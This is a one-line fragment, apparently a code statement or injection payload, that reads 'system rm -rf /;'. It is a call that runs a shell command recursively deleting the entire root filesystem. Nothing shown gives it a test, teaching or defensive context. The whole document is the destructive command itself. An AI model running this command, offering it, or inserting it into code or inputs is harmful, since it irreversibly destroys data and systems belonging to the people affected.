system rm -rf /;
